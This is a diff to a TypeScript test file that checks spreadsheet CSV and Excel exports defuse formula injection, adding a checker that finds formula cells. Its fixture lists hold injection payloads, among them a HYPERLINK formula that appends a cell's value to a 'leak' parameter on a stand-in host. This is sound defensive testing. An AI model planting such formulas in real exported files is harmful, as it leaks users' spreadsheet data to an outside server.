@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
-import { FORMULA_START, toCsv, toXlsx, type ExportTable } from './spreadsheet';
+import { FORMULA_START, putRow, putText, toCsv, toXlsx, writeCsv, type ExportTable } from './spreadsheet';
+import { csvFormulaCells, formulaCells } from './spreadsheet-check';
 
 const DANGEROUS = [
   '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
@@ -33,6 +34,7 @@ describe('CSV export', () => {
   it('prefixes text that a spreadsheet would read as a formula, and keeps everything else as written', async () => {
     const csv = await toCsv(table);
     expect(csv.startsWith('\uFEFF')).toBe(true);
+    expect(csvFormulaCells(csv)).toEqual([]);
     const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
     expect(parsed.errors).toEqual([]);
     const [header, first, ...rest] = parsed.data;
@@ -72,8 +74,10 @@ describe('Excel export', () => {
       const cell = sheet.getRow(3 + i).getCell(2);
       expect(cell.type).toBe(ExcelJS.ValueType.String);
       expect(cell.formula).toBeUndefined();
-      expect(cell.value).toBe(title);
+      // The same rule as the CSV: the text is kept, behind an apostrophe.
+      expect(cell.value).toBe(`'${title}`);
     });
+    expect(formulaCells(workbook)).toEqual([]);
     sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
   });
 
@@ -84,5 +88,40 @@ describe('Excel export', () => {
     const zip = await JSZip.loadAsync(buffer);
     const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
     expect(sheetXml).not.toMatch(/<f[\s>]/);
+  });
+});
+
+// Every export goes through this writer: the task list's (above), the report
+// appendix (features/reports/lib/export.test.ts), the CCHC results
+// (features/cchc/lib/export.test.ts) and both import templates (beside them).
+const HOSTILE = ['=HYPERLINK("http://example.com","Bấm")', '+1+2', '-2+3', '@SUM(1,2)', '\t=1', '\r=1', '＝1+1'];
+
+async function open(buffer: ArrayBuffer) {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(buffer);
+  return workbook;
+}
+
+describe('the one writer', () => {
+  it('the writer: putText, putRow and writeCsv keep the text behind an apostrophe, numbers as numbers', async () => {
+    const workbook = new ExcelJS.Workbook();
+    const sheet = workbook.addWorksheet('x');
+    putText(sheet.getCell('A1'), HOSTILE[0]);
+    putRow(sheet.getRow(2), [...HOSTILE, -5]);
+    expect(sheet.getCell('A1').value).toBe(`'${HOSTILE[0]}`);
+    expect(sheet.getRow(2).getCell(HOSTILE.length + 1).value).toBe(-5);
+    expect(formulaCells(await open((await workbook.xlsx.writeBuffer()) as ArrayBuffer))).toEqual([]);
+    const csv = await writeCsv([['a', 'b'], [HOSTILE[0]!, -5], ...HOSTILE.map((h) => [h, null])]);
+    expect(csvFormulaCells(csv)).toEqual([]);
+    expect(csv).toContain('-5');
+  });
+
+  it('the checker itself finds a formula and formula-like text', async () => {
+    const workbook = new ExcelJS.Workbook();
+    const sheet = workbook.addWorksheet('x');
+    sheet.getCell('A1').value = { formula: '1+1' };
+    sheet.getCell('B1').value = '=1+1';
+    expect(formulaCells(workbook)).toEqual(['x!A1', 'x!B1']);
+    expect(csvFormulaCells('a,=1+1\r\n-5,@x')).toEqual(['R1C2', 'R2C2']);
   });
 });
